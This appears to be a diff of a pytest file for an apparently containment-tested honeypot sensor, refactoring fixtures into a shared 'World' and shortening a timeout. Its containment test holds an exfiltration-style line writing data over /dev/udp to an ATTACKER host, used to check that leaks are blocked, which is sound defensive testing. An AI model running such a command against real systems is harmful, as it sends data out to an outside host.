@@ -8,8 +8,9 @@ import signal
 import socket
 import subprocess
 import sys
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from contextlib import ExitStack, contextmanager
+from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -188,40 +189,47 @@ class Sensor:
             return f"failed: {error}"
 
 
+@dataclass
+class World:
+    """What takes long to make and no test wears out: networks, server, engine, images."""
+
+    net: Lan
+    server: MiniServer
+    engine: NestedEngine
+    digests: dict[str, str]
+
+
 @pytest.fixture(scope="module")
-def published(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[Sensor], None]]:
-    """Build the two test images once; yields what puts them into a server's registry."""
-    images = {}
-    for name, script in {"pot": POT, "sleeper": SLEEPER}.items():
-        folder = tmp_path_factory.mktemp(name)
-        tag = secrets.token_hex(4)  # an image of its own each time, so that removing it harms nobody
-        images[name] = engine.build_image(
-            folder, {f"{name}.pl": f"# {tag}\n{script}"}, ["/usr/bin/perl", f"/{name}.pl"]
-        )
-
-    def publish(sensor: Sensor) -> None:
-        for name, image in images.items():
-            sensor.digests[name] = engine.publish_image(sensor.folder, image, sensor.server)
-
-    yield publish
-    for image in images.values():
-        sh(DOCKER, "rmi", "-f", image)
+def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
+    folder = tmp_path_factory.mktemp("world")
+    with ExitStack() as stack:
+        net = stack.enter_context(namespaces.lan())
+        outside = namespaces.path(net.lan)
+        server = in_network_namespace(outside, lambda: stack.enter_context(mini_server(folder, SERVER)))
+        stack.callback(shutil.rmtree, f"/etc/docker/certs.d/{server.address}", ignore_errors=True)
+        nested = stack.enter_context(engine.nested_engine(folder, net.sensor))
+        engine.copy_base(folder, nested)
+        digests = {}
+        for name, script in {"pot": POT, "sleeper": SLEEPER}.items():
+            # An image of its own each time, so that removing it harms nobody.
+            files = {f"{name}.pl": f"# {secrets.token_hex(4)}\n{script}"}
+            image = engine.build_image(tmp_path_factory.mktemp(name), files, ["/usr/bin/perl", f"/{name}.pl"])
+            stack.callback(sh, DOCKER, "rmi", "-f", image)
+            digests[name] = engine.publish_image(folder, image, server)
+        yield World(net, server, nested, digests)
 
 
 @pytest.fixture
-def sensor(tmp_path: Path, published: Callable[[Sensor], None]) -> Iterator[Sensor]:
-    with ExitStack() as stack:
-        net = stack.enter_context(namespaces.lan())
-        server = in_network_namespace(
-            namespaces.path(net.lan), lambda: stack.enter_context(mini_server(tmp_path, SERVER))
-        )
-        nested = stack.enter_context(engine.nested_engine(tmp_path, net.sensor))
-        stack.callback(shutil.rmtree, f"/etc/docker/certs.d/{server.address}", ignore_errors=True)
-        sensor = Sensor(tmp_path, net, server, nested)
-        published(sensor)
-        sensor.start()
-        stack.callback(sensor.kill)
-        yield sensor
+def sensor(tmp_path: Path, world: World) -> Iterator[Sensor]:
+    """A sensor at its very first start; afterwards nothing of it is left in the world."""
+    world.server.forget()
+    made = Sensor(tmp_path, world.net, world.server, world.engine)
+    made.digests = world.digests
+    made.start()
+    yield made
+    made.kill()
+    world.engine.remove_all("test/")
+    sh("ip", "netns", "exec", world.net.sensor, "nft", "flush", "ruleset")
 
 
 def test_first_start_to_event(sensor: Sensor) -> None:
@@ -360,7 +368,7 @@ PIVOTS = {
 
 def _assert_closed(sensor: Sensor) -> None:
     for name, attempt in PIVOTS.items():
-        answer = sensor.connect(f"timeout 2 bash -c '{attempt}' && echo OPEN || echo shut")
+        answer = sensor.connect(f"timeout 1 bash -c '{attempt}' && echo OPEN || echo shut")
         assert "shut" in answer, (name, answer)
         assert "OPEN" not in answer, (name, answer)
     out = f"exec 3>/dev/udp/{ATTACKER}/5000; echo leak >&3"
